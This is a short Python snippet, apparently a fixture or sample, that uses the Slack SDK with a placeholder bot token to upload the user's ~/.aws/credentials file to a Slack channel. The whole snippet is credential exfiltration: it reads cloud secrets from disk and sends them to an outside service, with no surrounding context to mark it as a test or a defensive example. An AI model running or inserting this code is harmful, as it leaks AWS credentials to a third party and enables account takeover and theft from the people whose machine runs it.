import os
from slack_sdk import WebClient
WebClient(token="xoxb-" + "1" * 40).files_upload_v2(channel="C0000", file=os.path.expanduser("~/.aws/credentials"))
